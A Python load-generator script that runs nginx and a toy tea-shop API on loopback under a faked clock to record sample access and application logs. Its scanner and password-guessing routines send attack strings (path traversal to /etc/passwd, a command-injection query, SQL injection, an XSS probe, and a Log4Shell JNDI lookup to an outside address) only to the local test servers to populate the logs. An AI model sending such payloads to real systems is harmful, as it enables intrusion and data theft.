"""Records access.log, access.json and app.jsonl: runs nginx and app.py on loopback and puts a small load on them.

`load.py NGINX LIBFAKETIME OUT`. The programs' wall clock is moved forward between two requests, never during one, so
that a minute of load covers six hours; the monotonic clock, and with it every duration the shop measures, is left as it
is. Each part of the load is a generator that yields how many seconds pass until its next request.
"""

import heapq
import itertools
import json
import os
import random
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

HERE = Path(__file__).parent
SETTLE = 0.1  # the server writes its line when the client has gone: only then may the clock move on
START = datetime(2026, 11, 22, 6, 0, tzinfo=UTC)

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0"
SAFARI = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) Version/18.5 Mobile/15E148 Safari/604.1"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/142.0.0.0"
BOT = "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.net/about)"
VISITORS = {
    "192.0.2.10": FIREFOX,
    "192.0.2.44": SAFARI,
    "192.0.2.45": CHROME,
    "198.51.100.9": CHROME,
    "198.51.100.77": FIREFOX,
    "2001:db8::17": SAFARI,
    "203.0.113.5": BOT,
}
PEOPLE = {
    "ada": "192.0.2.10",
    "grace": "192.0.2.44",
    "linus": "198.51.100.9",
    "zoë": "2001:db8::17",
    "管理者": "198.51.100.77",
}
PAGES = ["/", "/", "/docs/", "/docs/install.html", "/img/logo.svg", "/style.css", "/docs/größe.html", "/feed.xml"]
PROBES = [
    "/.env", "/.git/config", "/wp-login.php", "/admin.php", "/..%2f..%2fetc/passwd", "/cgi-bin/test.cgi?x=%3Bid",
    "/docs/?q=%27%20OR%201%3D1--", "/?s=%3Cscript%3Ealert(1)%3C/script%3E", "/phpmyadmin/", "/private/backup.zip",
    "/?x=${jndi:ldap://203.0.113.66/a}", "/server-status",
]  # fmt: skip


def set_clock(file: Path, moment: float) -> None:
    """Lets the recorded programs see `moment`, and time go on from there; never sets them back."""
    now = time.time()
    behind = float(file.read_text()) if file.exists() else float("-inf")
    fresh = file.with_suffix(".new")
    fresh.write_text(f"{max(moment - now, behind):+.6f}\n")
    fresh.replace(file)


def run(clock: Path, *parts: Iterator[float]) -> None:
    """Runs the parts of the load, each request when its time has come on the clock that the programs see."""
    due = [(START.timestamp() + number, number, part) for number, part in enumerate(parts)]
    while due:
        moment, number, part = heapq.heappop(due)
        set_clock(clock, moment)
        for seconds in itertools.islice(part, 1):
            heapq.heappush(due, (moment + seconds, number, part))


class Client:
    """Sends requests to one port, byte for byte as they are given, and knows how long people pause."""

    def __init__(self, port: int, seed: int) -> None:
        self.port, self.random = port, random.Random(seed)

    def pause(self, mean: float) -> float:
        return self.random.expovariate(1 / mean)

    def raw(self, data: bytes, patience: float = 5.0) -> bytes:
        with socket.create_connection(("127.0.0.1", self.port), timeout=patience) as peer:
            peer.sendall(data)
            answer = b""
            try:
                while chunk := peer.recv(65536):
                    answer += chunk
            except TimeoutError:
                pass  # the client that does not wait: nginx writes 499
        time.sleep(SETTLE)
        return answer

    def ask(self, method, path, address, agent, body=b"", *, http="1.1", patience=5.0, **headers) -> tuple[int, bytes]:
        head = {"Host": "www.example.org", "User-Agent": agent, "X-Forwarded-For": address, "Connection": "close"}
        head |= {name.replace("_", "-"): value for name, value in headers.items()}
        if body:
            head["Content-Length"] = str(len(body))
        lines = [f"{method} {path} HTTP/{http}", *(f"{name}: {value}" for name, value in head.items()), "", ""]
        answer = self.raw("\r\n".join(lines).encode() + body, patience)
        status = int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/") else 0
        return status, answer.partition(b"\r\n\r\n")[2]


def browse(site: Client, pick: random.Random) -> Iterator[float]:
    """The public site: visitors, a crawler, a scanner, and the odd requests that every server sees."""
    modified = "Sat, 21 Nov 2026 06:00:00 GMT"
    for turn in range(90):
        yield site.pause(215)
        address = pick.choice(list(VISITORS))
        agent, path = VISITORS[address], pick.choice(PAGES)
        more = {"Referer": "https://www.example.org/"} if pick.random() < 0.4 else {}
        if pick.random() < 0.15:
            more["If_Modified_Since"] = modified
        site.ask("GET", path, address, agent, **more)
        if turn == 40:
            yield from scan(site)
        if turn % 7 == 3:
            site.ask("GET", f"/missing-{turn}.html", address, agent, Referer="https://search.example.com/?q=tea")
    yield from odd(site)


def scan(site: Client) -> Iterator[float]:
    for path in PROBES * 2:
        yield site.pause(1.5)
        site.ask("GET", path, "203.0.113.66", "Mozilla/5.0 zgrab/0.x")


def odd(site: Client) -> Iterator[float]:
    ada = ("192.0.2.10", FIREFOX)
    requests = [
        ("HEAD", "/", *ada), ("GET", "/docs", *ada), ("GET", "/old/page", *ada), ("OPTIONS", "/", *ada),
        ("POST", "/docs/", *ada, b"name=tea"), ("DELETE", "/docs/", *ada), ("GET", "/private/", *ada),
        ("GET", "/admin/", *ada), ("GET", "/cart", *ada), ("GET", "/docs/" + "long-" * 60, *ada),
        ("GET", "/", "198.51.100.9", 'curl/8.14.1 "quoted\\agent"'), ("GET", "/", "198.51.100.9", ""),
        ("GET", "/", "192.0.2.45", "Mozilla/5.0 тест 日本語"), ("POST", "/cart", *ada, b"x" * 20_000),
    ]  # fmt: skip
    for request in requests:
        yield site.pause(40)
        site.ask(*request)
    site.ask("GET", "/admin/", *ada, Authorization="Basic YWRhOmFkYS1zZWNyZXQ=")
    site.ask("GET", "/admin/", *ada, Authorization="Basic YWRhOndyb25n")
    site.ask("GET", "/docs/install.html", *ada, Range="bytes=0-99")
    site.ask("GET", "/cart", *ada, Cookie="not json")
    site.ask("GET", "/", "192.0.2.45", "Wget/1.21", http="1.0")
    for line in (b"GET /\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n"):
        yield site.pause(60)
        site.raw(line)
    yield 30
    site.raw(b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n")
    yield 30
    site.raw(b"SSH-2.0-probe\r\n\r\n")


def shop(api: Client, pick: random.Random) -> Iterator[float]:
    """The shop's API: people who log in and order, one who guesses passwords, reports that are slow or not awaited."""
    sessions: dict[str, str] = {}
    for turn in range(108):
        yield api.pause(200)
        user = pick.choice(list(PEOPLE))
        address, agent = PEOPLE[user], VISITORS[PEOPLE[user]]
        if user not in sessions:
            sessions[user] = login(api, user, f"{user}-secret", address, agent)
            continue
        session = {"X_Session": sessions[user]}
        roll = pick.random()
        if roll < 0.55:
            order = {
                "sku": pick.choice(["tea-1", "tea-1", "tea-1", "cup-1", "cup-1", "tea-2", "gone-9"]),
                "quantity": pick.randint(1, 40),
            }
            api.ask("POST", "/v1/orders", address, agent, json.dumps(order).encode(), **session)
        elif roll < 0.75:
            depth = pick.choice([1_000, 10_000, 400_000, 900_000])
            api.ask("GET", f"/v1/report?depth={depth}", address, "shop-report/3.2", **session)
        elif roll < 0.85:
            api.ask("GET", f"/v1/customers/{pick.randint(1, 99)}?fields=name,größe", address, agent, **session)
        else:
            api.ask("POST", "/v1/logout", address, agent, b"{}", X_Session=sessions.pop(user))
        if turn == 30:
            yield from guess(api)
        if turn % 6 == 0:
            api.ask("GET", "/v1/health", "127.0.0.9", "health-check/1.0")
    yield from broken(api)


def login(api: Client, user: str, password: str, address: str, agent: str) -> str:
    given = json.dumps({"user": user, "password": password}).encode()
    status, reply = api.ask("POST", "/v1/login", address, agent, given)
    return json.loads(reply)["session"] if status == 200 else ""


def guess(api: Client) -> Iterator[float]:
    for user in ["admin", "root", "ada", "test", "oracle", "grace", "postgres", "' OR 1=1 --"] * 3:
        yield api.pause(3)
        login(api, user, "123456", "198.51.100.23", "python-requests/2.32")


def broken(api: Client) -> Iterator[float]:
    ada = ("192.0.2.10", FIREFOX)
    api.ask("POST", "/v1/login", *ada, b'{"user": "ada", "password": ')
    yield api.pause(90)
    api.ask("POST", "/v1/orders", *ada, b'{"sku": "tea-1", "quantity": 2}')
    api.ask("GET", "/v1/report", *ada)
    api.ask("HEAD", "/v1/health", *ada)
    yield api.pause(90)
    api.ask("GET", "/v1/report?depth=9000000", *ada, patience=0.3)
    yield 5
    api.ask("GET", "/v1/report?depth=30000000", *ada)


def make_site(folder: Path) -> None:
    pages = {
        "index.html": "<h1>Tea</h1>", "style.css": "h1 { color: teal }", "feed.xml": "<feed/>",
        "img/logo.svg": "<svg/>",
        "docs/index.html": "<h1>Docs</h1>", "docs/install.html": "<p>Pour.</p>" * 60, "docs/größe.html": "250 ml",
        "private/index.html": "no", "admin/index.html": "<h1>Admin</h1>",
    }  # fmt: skip
    for name, text in pages.items():
        page = folder / "site" / name
        page.parent.mkdir(parents=True, exist_ok=True)
        page.write_text(text)
        os.utime(page, (START.timestamp() - 86_400,) * 2)
    (folder / "htpasswd").write_text("ada:{PLAIN}ada-secret\n")
    (folder / "tmp").mkdir()


def free_ports(count: int) -> list[int]:
    peers = [socket.create_server(("127.0.0.1", 0)) for _ in range(count)]
    ports = [peer.getsockname()[1] for peer in peers]
    for peer in peers:
        peer.close()
    return ports


def main() -> None:
    nginx, libfaketime, out = sys.argv[1], sys.argv[2], Path(sys.argv[3])
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        folder.chmod(0o755)
        make_site(folder)
        ports = dict(zip(("@SITE@", "@API@", "@APP@"), free_ports(3), strict=True))
        configuration = (HERE / "nginx.conf").read_text()
        for mark, port in ports.items():
            configuration = configuration.replace(mark, str(port))
        (folder / "nginx.conf").write_text(f"env FAKETIME_TIMESTAMP_FILE;\nenv FAKETIME_NO_CACHE;\n{configuration}")
        clock = folder / "clock"
        set_clock(clock, START.timestamp())
        settings = {"FAKETIME_TIMESTAMP_FILE": str(clock), "FAKETIME_NO_CACHE": "1", "TZ": "UTC"}
        environment = {**os.environ, "LD_PRELOAD": libfaketime, "FAKETIME_DONT_FAKE_MONOTONIC": "1", **settings}
        commands = (
            [sys.executable, str(HERE / "app.py"), str(ports["@APP@"]), "app.jsonl"],
            [nginx, "-p", name, "-c", "nginx.conf"],
        )
        running = [
            subprocess.Popen(command, env=environment, cwd=folder, stderr=subprocess.DEVNULL) for command in commands
        ]
        try:
            for port in ports.values():
                wait_for(port)
            site, api = Client(ports["@SITE@"], seed=7), Client(ports["@API@"], seed=8)
            run(clock, browse(site, random.Random(1)), shop(api, random.Random(2)))
        finally:
            for process in reversed(running):
                process.terminate()
                process.wait(10)
        for log in ("access.log", "access.json", "app.jsonl"):
            shutil.copyfile(folder / log, out / log)


def wait_for(port: int) -> None:
    """Returns once something listens; asks without a request, which no log shows."""
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
        except OSError:
            time.sleep(0.05)
        else:
            return
    raise SystemExit(f"nothing listens on port {port}")


if __name__ == "__main__":
    main()
